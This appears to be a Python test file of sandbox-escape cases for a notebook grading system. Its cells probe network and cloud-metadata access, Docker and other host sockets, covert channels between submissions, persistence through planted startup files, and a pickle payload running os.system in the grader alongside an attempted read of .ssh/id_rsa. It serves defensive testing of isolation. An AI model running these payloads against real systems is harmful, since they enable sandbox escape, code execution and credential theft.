"""The network, other submissions, later kernels, and whoever reads the answers."""

from __future__ import annotations

from attacks.cases import Case
from attacks.edits import answer, cell, family
from attacks.escape.attempts import TRY

CASES: list[Case] = []
case = family(CASES, "escape")


@case("this machine's ports, names, the internet, raw packets")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
socket.setdefaulttimeout(0.3)
def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.connect(address)
        return one.recv(100) or "connected"
for host in ("127.0.0.1", "127.0.1.1", "0.0.0.0", "10.0.0.1", "172.17.0.1", "169.254.169.254", "1.1.1.1"):
    for port in (@PORT@, 22, 80):
        attempt(f"{host}:{port}", connect, socket.AF_INET, (host, port))
for host in ("::1", "fe80::1%lo", "2606:4700:4700::1111"):
    attempt(host, connect, socket.AF_INET6, (host, @PORT@))
attempt("a name", socket.getaddrinfo, "example.org", 80)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    attempt("a packet", one.sendto, b"x", ("1.1.1.1", 53))
for kind in (socket.SOCK_RAW, socket.SOCK_PACKET):
    attempt("raw", lambda: socket.socket(socket.AF_INET, kind, 1).fileno())
attempt("packets", lambda: socket.socket(17, socket.SOCK_RAW).fileno())
attempt("the hypervisor", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).fileno())
import urllib.request
attempt("http", lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@", timeout=0.3).read())
""",
    )


@case("sockets of the host by name, abstract and in files")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
def connect(address):
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(0.5)
        one.connect(address)
        return one.recv(100) or "connected"
names = [line.split()[-1] for line in open("/proc/net/unix") if line.split()[-1].startswith("@")]
for name in ["@@ABSTRACT@", *names]:
    if not name.startswith("@/"):
        attempt(name, connect, "\\0" + name[1:])
for path in ("@SECRETS@/listen.sock", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
             "/run/systemd/private", "/tmp/.X11-unix/X0", "/run/user/0/bus", "/run/containerd/containerd.sock"):
    attempt(path, connect, path)
""",
    )


NOTES = """
KEY, NOTE = 0x584D4E4F, f"note-{os.urandom(4).hex()}".encode()
PLACES = ["/tmp/xm-note", "/var/tmp/xm-note", "/dev/shm/xm-note", "/run/kernel/xm-note", "/run/xm-note",
          "~/xm-note", "~/.cache/huggingface/xm-note", "~/.config/matplotlib/xm-note",
          "~/.ipython/profile_default/startup/00-note.py", os.path.dirname(os.__file__) + "/xm-note", "xm-note"]
PLACES = [os.path.expanduser(path) for path in PLACES]
libc.shmat.restype = ctypes.c_void_p

def foreign(text):
    return text if text and text.startswith(b"note-") and not text.startswith(NOTE) else None

def by_key(create):
    number = libc.shmget(KEY, 4096, 0o1666 if create else 0)  # IPC_CREAT and for all
    if number == -1:
        return None
    where = libc.shmat(number, None, 0)
    if create:
        ctypes.memmove(where, NOTE, len(NOTE))
    return foreign(ctypes.string_at(where, 13))

def by_keyring(ring, create):
    if create:
        return libc.syscall(248, b"user", b"xm-note", NOTE, len(NOTE), ring) and None
    number, text = libc.syscall(250, 10, ring, b"user", b"xm-note", 0), ctypes.create_string_buffer(64)
    return foreign(text.value) if number != -1 and libc.syscall(250, 11, number, text, 64) != -1 else None

def by_port(create):
    with socket.socket() as one:
        one.settimeout(0.2)
        one.connect(("127.0.0.1", 47117))
        return foreign(one.recv(100))

def serve():
    for family, address in ((socket.AF_INET, ("127.0.0.1", 47117)), (socket.AF_UNIX, "\\0xm-note")):
        one = socket.socket(family)
        one.bind(address)
        one.listen()
        def answer(one=one):
            while True:
                one.accept()[0].sendall(NOTE)
        threading.Thread(target=answer, daemon=True).start()

import threading
def note(path):
    if not os.path.exists(path):
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "wb") as file:
            file.write(NOTE)
for path in PLACES:  # first look, then leave one's own
    attempt(path, lambda: foreign(read(path)))
    attempt("", note, path)
rings = (-3, -4, -5)  # session, user, user session
for ring in rings:
    attempt(f"keyring {ring}", by_keyring, ring, False)
    by_keyring(ring, True)
attempt("System V", by_key, False)
attempt("", by_key, True)
attempt("listening", serve)
until = time.monotonic() + 2.5
while time.monotonic() < until:
    for path in PLACES:
        attempt(path, lambda: foreign(read(path)))
    for ring in rings:
        attempt(f"keyring {ring}", by_keyring, ring, False)
    attempt("System V", by_key, False)
    attempt("a port", by_port, False)
    time.sleep(0.1)
"""


@case("a note for another submission: files, memory, keys, ports (one)")
@case("a note for another submission: files, memory, keys, ports (two)")
@case("a note for another submission: files, memory, keys, ports (three)")
def _(notebook):
    return cell(notebook, TRY + NOTES)


@case("start-up files and caches laid for the next kernel")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
import builtins, site
if hasattr(builtins, "laid"):
    print("ESCAPED: a start-up file of an earlier kernel ran")
code = "import builtins; builtins.laid = True"
for path in ("~/.ipython/profile_default/startup/00.py", "~/.ipython/profile_default/ipython_config.py",
             site.getusersitepackages() + "/usercustomize.py", site.getusersitepackages() + "/evil.pth",
             "~/.config/matplotlib/matplotlibrc", "/tmp/sitecustomize.py", "sitecustomize.py", "numpy.py"):
    path = os.path.expanduser(path)
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        open(path, "w").write(code)
    except OSError:
        pass
sys.path.insert(0, "/tmp")
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = "/tmp/sitecustomize.py"
os._exit(3)
""",
    )


@case("the judge's own process through answers: pickles, paths, templates")
def _(notebook):
    return answer(
        cell(
            notebook,
            """
            import json, pickle
            class Runs:
                def __reduce__(self):
                    import os
                    return os.system, ("touch @SECRETS@/run-by-the-grader",)
            payload = pickle.dumps(Runs())
            from IPython.display import display
            display({"text/html": "<img src='file://@SECRETS@/.ssh/id_rsa'>{{ 7 * 7 }}", "text/latex": payload.hex()},
                    raw=True, metadata={"../../@SECRETS@/run-by-the-grader": payload.hex()})
            """,
        ),
        table="table = [2, 4, 6]\nRuns.__name__ = '../../run-by-the-grader'\nspare = Runs()",
    )


@case("the kernel's own connection file and key used from within")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
import json
from jupyter_client import BlockingKernelClient
for path in glob.glob("/run/kernel/*.json") + glob.glob("/tmp/xm-*/**", recursive=True) + glob.glob("/tmp/**/*.json"):
    told = json.loads(read(path)) if path.endswith(".json") else {}
    if told and not told.get("ip", "").startswith("/run/kernel"):
        print("ESCAPED: a way to another kernel", path)
for pid in pids():
    if pid not in (1, 2, os.getpid()):
        print("ESCAPED: a process of others", pid)
attempt("another's sockets", lambda: [p for p in glob.glob("/proc/*/root/run/kernel/k*")
        if not p.startswith(("/proc/self", "/proc/thread-self", f"/proc/{os.getpid()}/", "/proc/1/", "/proc/2/"))])
""",
    )
